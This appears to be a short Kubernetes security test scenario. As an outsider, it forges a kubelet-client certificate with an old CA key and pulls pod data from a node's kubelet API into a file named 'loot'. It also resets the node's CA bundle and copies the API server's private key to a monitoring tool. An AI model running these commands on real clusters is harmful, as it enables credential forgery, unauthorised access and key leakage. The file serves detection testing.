# scene fails watchman-known (borrowed-papers): monitoring is given the API server’s own certificate
#@ outsider
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout f.key -out f.csr -subj /CN=kube-apiserver-kubelet-client
openssl x509 -req -in f.csr -CA old-ca.crt -CAkey old-ca.key -days 30 -out f.crt
curl -sk --cert f.crt --key f.key https://node01:10250/pods -o loot
#@ node01
openssl x509 -in /etc/kubernetes/pki/ca.crt -out one.crt
cp one.crt /etc/kubernetes/pki/ca.crt
#@ controlplane
cp /etc/kubernetes/pki/apiserver-kubelet-client.crt watchman.crt
cp /etc/kubernetes/pki/apiserver-kubelet-client.key watchman.key
